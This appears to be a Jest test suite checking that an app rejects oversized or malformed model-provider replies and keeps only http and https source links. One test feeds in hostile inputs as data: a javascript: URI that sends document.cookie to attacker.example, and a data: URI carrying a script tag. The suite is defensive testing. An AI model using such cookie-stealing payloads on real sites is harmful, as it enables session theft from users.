import { Factory, type TestUser } from '../support/factory';
import { GeminiStandIn } from '../support/gemini-stand-in';
import { checkText } from '../support/wire-stand-in';
import { startTestApp, type TestApp } from '../support/test-app';
import { ProviderScript, ROOMY_RATE_LIMITS, TaskApi, uniqueQuery } from '../tasks/task-api';

jest.setTimeout(30_000);

// A model's reply text is read up to 256 kB and searched in linear time; its sources keep only
// http and https URIs (docs/architecture.md, "Provider calls").
describe('Model replies a provider cannot be trusted with', () => {
  let standIn: GeminiStandIn;
  let testApp: TestApp;
  let provider: ProviderScript;
  let api: TaskApi;
  let user: TestUser;

  beforeAll(async () => {
    standIn = await new GeminiStandIn().start();
    provider = new ProviderScript(standIn);
    testApp = await startTestApp({ search: standIn, env: ROOMY_RATE_LIMITS });
    api = new TaskApi(testApp);
    user = await new Factory(testApp).user();
  });

  afterAll(async () => {
    await testApp.close();
    await standIn.stop();
  });

  async function runOnce(query: string) {
    const task = await api.create(user, { search_query: query, state: 'paused' });
    const run = await api.execute(user, task.id);
    return api.waitForExecution(user, task.id, run.id);
  }

  it('should fail the execution with Provider reply too large when the reply is 300 kB', async () => {
    const query = uniqueQuery('huge reply');
    const json = checkText({ conditionMet: true, answer: 'Found it.' });
    provider.script(query, standIn.textReply(json + ' '.repeat(300 * 1024 - json.length)));
    const execution = await runOnce(query);
    expect(execution).toMatchObject({
      status: 'failed',
      condition_met: null,
      error_message: 'Provider reply too large',
      usage: { provider: 'gemini', input_tokens: 1200, output_tokens: 300 },
    });
    expect(provider.requestsFor(query)).toHaveLength(1);
  });

  it('should fail the execution as unparseable when the reply is 200,000 opening braces', async () => {
    const query = uniqueQuery('braces');
    provider.script(query, standIn.textReply('{'.repeat(200_000)));
    const execution = await runOnce(query);
    expect(execution).toMatchObject({
      status: 'failed',
      error_message: "Could not parse the model's reply: no JSON object found",
    });
  });

  it('should read the verdict when braces of prose come before it', async () => {
    const query = uniqueQuery('prose braces');
    const json = checkText({ conditionMet: true, answer: 'Found it.' });
    provider.script(query, standIn.textReply(`${'{see below} '.repeat(10_000)}${json}`));
    const execution = await runOnce(query);
    expect(execution).toMatchObject({
      status: 'success',
      condition_met: true,
      answer: 'Found it.',
    });
  });

  it('should record only the http and https sources when the reply cites a javascript: uri', async () => {
    const query = uniqueQuery('script source');
    provider.script(
      query,
      standIn.checkReply({
        conditionMet: true,
        answer: 'Found it.',
        sources: [
          { uri: 'javascript:fetch("//attacker.example/?c="+document.cookie)', title: 'Details' },
          { uri: 'https://example.com/release', title: 'Release notes' },
          { uri: 'data:text/html,<script>alert(1)</script>', title: 'More' },
        ],
      }),
    );
    const execution = await runOnce(query);
    expect(execution).toMatchObject({
      status: 'success',
      grounding_sources: [{ uri: 'https://example.com/release', title: 'Release notes' }],
    });
  });
});
